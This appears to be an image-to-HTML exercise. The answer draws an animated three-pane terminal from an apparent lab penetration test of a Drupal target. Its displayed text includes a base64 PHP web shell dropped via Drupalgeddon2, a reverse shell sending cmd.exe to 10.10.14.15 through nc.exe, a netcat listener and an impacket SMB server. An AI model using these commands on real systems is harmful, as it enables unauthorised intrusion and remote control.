
Write an HTML page that moves like this. It is 1069x524 px and loops after 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Split terminal</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
svg { display: block; width: 1069px; height: 524px; }
text { white-space: pre; text-rendering: geometricPrecision; }
rect { shape-rendering: crispEdges; }
rect.line { fill: var(--r); shape-rendering: auto; }
.row { font: 16.61px "DejaVu Sans Mono", monospace; }
.title { font: 13.6px "Noto Sans", "Open Sans", sans-serif; text-anchor: middle; }
.pane { --w: #888; --r: #a30000; --g: #3e7b05; --y: #9d8000; --c: #2ab5b5; --b: #24446f; --i: #6f8598; --o: #a06c00;
  --bar: #c0bebf; --ink: #000; --rule: #333; }
.pane.focus { --w: #aaa; --r: #c00; --g: #4e9a06; --y: #c4a000; --c: #34e2e2;
  --bar: #c80003; --ink: #fff; --rule: #b40003; }
.w { fill: var(--w); } .r { fill: var(--r); } .g { fill: var(--g); } .o { fill: var(--o); }
.b { fill: var(--b); } .i { fill: var(--i); }
.c { fill: var(--c); font-weight: bold; } .y { fill: var(--y); font-weight: bold; }
.focus .plain, .pane:not(.focus) .active { display: none; }
</style>
</head>
<body>
<script>
const NS = "http://www.w3.org/2000/svg";
const CELL = 10, ROW = 22, BAR = 20, PAD = 1;

function add(parent, tag, attrs = {}, text) {
  const el = document.createElementNS(NS, tag);
  for (const key in attrs) el.setAttribute(key, attrs[key]);
  if (text !== undefined) el.textContent = text;
  return parent.appendChild(el);
}
const rect = (parent, x, y, width, height, fill) =>
  add(parent, "rect", { x, y, width, height, style: "fill:" + fill });

const svg = add(document.body, "svg", { viewBox: "0 0 1366 669.6", preserveAspectRatio: "none" });
rect(svg, 0, 0, 1366, 670, "#000");
rect(svg, 681, 0, 2, 334, "#2c2c2c");
rect(svg, 0, 334, 1366, 2, "#2c2c2c");

// A row is a list of [class, text] pairs; box-drawing characters become strokes.
function drawRow(parent, cells, row) {
  const y = BAR + row * ROW, mid = y + ROW / 2;
  const text = add(parent, "text", { class: "row", x: 0, y: y + 16 });
  let col = 0;
  for (const [cls, str] of cells) {
    add(text, "tspan", { class: cls }, str.replace(/[┌└─╼]/g, " "));
    [...str].forEach((ch, n) => {
      const x = (col + n) * CELL;
      const line = (dx, dy, width, height) =>
        add(parent, "rect", { class: "line", x: x + dx, y: mid + dy, width, height });
      if (ch === "┌") { line(4, -1, 6, 2); line(4, 1, 2, 10); }
      if (ch === "└") { line(4, -1, 6, 2); line(4, -11, 2, 10); }
      if (ch === "─") line(0, -1, 10, 2);
      if (ch === "╼") { line(0, -1, 5, 2); line(5, -2, 5, 4); }
    });
    col += str.length;
  }
}
const drawRows = (parent, rows, first = 0) =>
  rows.forEach((cells, n) => drawRow(parent, typeof cells === "string" ? [["w", cells]] : cells, first + n));

function drawIcon(parent) {
  const plain = add(parent, "g", { class: "plain" });
  add(plain, "path", { d: "M3.5 3.5h12v6h-12zM9.5 3.5v12M3.5 9.5v6h6", fill: "none", stroke: "#222", "stroke-width": 1.5 });
  add(plain, "path", { d: "M10.5 12h6l-3 4z", fill: "#222" });
  const active = add(parent, "g", { class: "active" });
  rect(active, 3, 3, 13, 13, "#2a1018");
  rect(active, 5, 5, 4, 4, "#ccc");
  rect(active, 11, 5, 4, 4, "#d33");
  rect(active, 11, 11, 4, 4, "#4a7fc8");
}

function makePane({ x, y, width, height, title }) {
  const pane = add(svg, "g", { class: "pane", transform: `translate(${x} ${y})` });
  rect(pane, 0, 0, width, 19, "var(--bar)");
  rect(pane, 23, 0, 1, 19, "var(--rule)");
  drawIcon(pane);
  add(pane, "text", { class: "title", x: (24 + width) / 2, y: 14.5, style: "fill:var(--ink)" }, title);

  const left = width - 13, centre = width - 6.5, low = height - 11;
  rect(pane, left, 19, 13, height - 19, "#161616");
  const thumb = rect(pane, left + 1, 36, 11, low - 44, "#262626");
  const chevron = (cy, dir) => add(pane, "path", {
    d: `M${centre - 4} ${cy + 2 * dir}l4 ${-4 * dir}l4 ${4 * dir}`,
    fill: "none", stroke: "#777", "stroke-width": 1.6
  });
  const up = chevron(28, 1);
  chevron(low, -1);

  const body = add(pane, "g", { transform: `translate(${PAD} 0)` });
  const setScroll = (start, size) => {
    const track = low - 44;
    thumb.setAttribute("y", 36 + start * track);
    thumb.setAttribute("height", size * track);
    up.setAttribute("stroke", size < 1 ? "#ddd" : "#777");
  };
  return { pane, body, setScroll };
}

// The idle cursor is outlined one pixel outside its cell.
const hollow = (parent, col, row) => add(parent, "rect", {
  x: col * CELL - .5, y: BAR + row * ROW - .5, width: CELL + 1, height: ROW + 1, fill: "none", stroke: "#aaa"
});

const USER = "dunewick", HOST = "gravel";
const PATH = "~/Desktop/Dunewick/Hacking/Pentest/QZL/Boxes/", BOX = "Thicket";
const head = [["r", "┌─["], ["w", USER], ["y", "@"], ["c", HOST], ["r", "]─["], ["g", PATH]];
const command = str => [["r", "└──╼ "], ["y", "$"], ["w", str]];
const tagged = (cls, tag, str) => [[cls, tag], ["w", " " + str]];

const shell = makePane({ x: 0, y: 0, width: 681, height: 334, title: "/bin/bash 66x14" });
drawRows(shell.body, [
  tagged("i", "[i]", "Payload: mv -f sites/default/files/.htaccess sites/default/fil"),
  "es/.htaccess-bak; echo PD9waHAgaWYoIGlzc2V0KCAkX1JFUVVFU1RbJ2MnXSA",
  "pICkgeyBzeXN0ZW0oICRfUkVRVUVTVFsnYyddIC4gJyAyPiYxJyApOyB9 | base64",
  " -d | tee sites/default/files/shell.php",
  tagged("o", "[!]", "Target is NOT exploitable [2-4] (HTTP Response: 404)...   Migh"),
  "t not have write access?",
  tagged("o", "[!]", "FAILED : Couldn't find a writeable web path"),
  "-".repeat(66),
  "-".repeat(14),
  tagged("b", "[*]", "Dropping back to direct OS commands"),
  "drupalgeddon2>> whoami",
  "nt authority\\iusr",
  "drupalgeddon2>> \\\\10.10.14.15\\share\\nc.exe 10.10.14.15 9889 -e cmd",
  ".exe"
]);
hollow(shell.body, 4, 13);
shell.setScroll(.81, .19);

const listener = makePane({ x: 0, y: 336, width: 1366, height: 337, title: "/bin/bash 135x14" });
drawRows(listener.body, [
  [...head, ["g", BOX], ["r", "]"]],
  command("rlwrap nc -lvnp 9889"),
  "listening on [any] 9889 ..."
]);
hollow(listener.body, 0, 3);

const server = makePane({ x: 683, y: 0, width: 683, height: 334, title: "/bin/bash 66x14" });
const prompt = add(server.body, "g"), launch = add(server.body, "g");
const password = add(launch, "g"), output = add(launch, "g");
drawRows(prompt, [head, [["g", BOX], ["r", "]"]]]);
drawRows(launch, [
  command("sudo /usr/share/doc/python3-impacket/examples/smbserver.py -"),
  "smb2support share ."
], 2);
drawRows(password, [`[sudo] password for ${USER}: `], 4);
drawRows(output, [
  "Impacket v0.9.21 - Copyright 2020 SecureAuth Corporation",
  "",
  "[*] Config file parsed",
  "[*] Callback added for UUID 4B324FC8-1670-01D3-1278-5A47BF6EE188 V",
  ":3.0",
  "[*] Callback added for UUID 6BFFD098-A112-3610-9833-46C3F87E345A V",
  ":1.0",
  "[*] Config file parsed",
  "[*] Config file parsed",
  "[*] Config file parsed"
], 5);
const idleCursor = hollow(server.body, 19, 3);
const cursor = rect(server.body, 0, 0, CELL, ROW, "#aaa");

// time, stage (0 idle, 1 focused, 2 password, 3 running), cursor [col, row] or null
const STEPS = [
  [0, 0, null],
  [400, 1, [19, 3]],
  [870, 2, [30, 4]],
  [1470, 2, null],
  [2870, 2, [30, 4]],
  [5130, 2, null],
  [5270, 2, [30, 4]],
  [6400, 2, [0, 5]],
  [6800, 2, null],
  [7470, 2, [0, 5]],
  [7730, 3, [0, 13]]
];
const LOOP = 8000;
const show = (el, on) => { el.style.display = on ? "" : "none"; };

function apply([, stage, at]) {
  const running = stage === 3;
  server.pane.classList.toggle("focus", stage > 0);
  show(idleCursor, stage === 0);
  show(prompt, !running);
  show(password, stage >= 2);
  show(output, running);
  launch.setAttribute("transform", `translate(0 ${running ? -2 * ROW : 0})`);
  server.setScroll(running ? 2 / 16 : 0, running ? 14 / 16 : 1);
  show(cursor, at);
  if (at) {
    cursor.setAttribute("x", at[0] * CELL);
    cursor.setAttribute("y", BAR + at[1] * ROW);
  }
}

const start = performance.now();
let current;
function tick() {
  const time = (performance.now() - start) % LOOP;
  const step = STEPS.findLast(s => s[0] <= time);
  if (step !== current) apply(current = step);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
